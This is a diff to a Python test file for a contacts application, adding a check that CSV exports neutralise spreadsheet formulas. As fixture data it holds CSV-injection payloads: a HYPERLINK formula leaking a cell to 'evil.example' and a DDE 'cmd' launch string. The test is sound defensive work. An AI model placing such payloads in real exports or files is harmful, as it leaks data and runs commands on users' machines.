@@ -22,6 +22,7 @@ from fastapi.testclient import TestClient
 from tests.processes import CLI, base_env
 from vantage_contacts.app import create_app
 from vantage_contacts.config import Settings
+from vantage_contacts.imports.csvmap import formula_safe
 from vantage_contacts.imports.files import EXPORT_COLUMNS
 
 COMMAND_TIMEOUT = 300  # seconds: an import of a few thousand rows on a busy 2-core machine
@@ -345,6 +346,9 @@ def test_import_of_the_same_file_after_it_completed_starts_a_new_job(
 # --- export -------------------------------------------------------------------------------------
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
 def _make_varied_contacts(acme: Workspace, client_id: str) -> None:
     acme.post(
         "/v1/contacts",
@@ -369,6 +373,15 @@ def _make_varied_contacts(acme: Workspace, client_id: str) -> None:
         "/v1/contacts",
         {
             "client_id": client_id,
+            "name": FORMULA_NAME,
+            "title": "+cmd|' /C calc'!A0",
+            "notes": "@SUM(1+1)",
+        },
+    )
+    acme.post(
+        "/v1/contacts",
+        {
+            "client_id": client_id,
             "name": "Zoë Ünïcode",
             "email": "zoe@example.com",
             "is_technical": True,
@@ -388,7 +401,7 @@ def test_export_writes_every_live_contact(
 
     out = tmp_path / "all.csv"
     result = cli(env, "export", str(out), "--workspace", WORKSPACE)
-    assert "Wrote 4 contact(s)" in result.stderr
+    assert "Wrote 5 contact(s)" in result.stderr
     with out.open(newline="", encoding="utf-8") as source:
         assert next(csv.reader(source)) == list(EXPORT_COLUMNS)
     rows = {row["id"]: row for row in read_csv(out)}
@@ -396,12 +409,21 @@ def test_export_writes_every_live_contact(
     assert set(rows) == set(live)
     for contact_id, contact in live.items():
         row = rows[contact_id]
-        assert row["name"] == contact["name"]
+        assert row["name"] == formula_safe(contact["name"])
         assert row["email"] == (contact["email"] or "")
         assert row["client_id"] == contact["client_id"]
         assert row["is_primary"] == str(contact["roles"]["is_primary"]).lower()
-        assert row["notes"] == (contact["notes"] or "")
+        assert row["notes"] == formula_safe(contact["notes"] or "")
         assert row["created_at"] == contact["created_at"]
+    # No cell a spreadsheet would run as a formula (CSV injection).
+    [formula] = [row for row in rows.values() if FORMULA_NAME in row["name"]]
+    assert (formula["name"], formula["title"], formula["notes"]) == (
+        "'" + FORMULA_NAME,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+    )
+    # Phone numbers are kept as they were entered, and written as they are.
+    assert "+44 7700 900123" in {row["mobile"] for row in rows.values()}
 
     only_second = tmp_path / "second.csv"
     cli(env, "export", str(only_second), "--workspace", WORKSPACE, "--client-id", second)
@@ -419,7 +441,7 @@ def test_an_export_imported_into_another_workspace_reproduces_the_contacts(
     other = Workspace(app, env, "other-agency")
     target_client = other.client("Target")
     result = cli(env, "import", str(out), "--workspace", other.name, "--client-id", target_client)
-    assert "3 contact(s) created; 0 row(s) failed." in result.stderr
+    assert "4 contact(s) created; 0 row(s) failed." in result.stderr
 
     def comparable(contact: dict[str, Any]) -> dict[str, Any]:
         kept = {field: contact[field] for field in (*COMPARED, *COMPARED_TOO)}
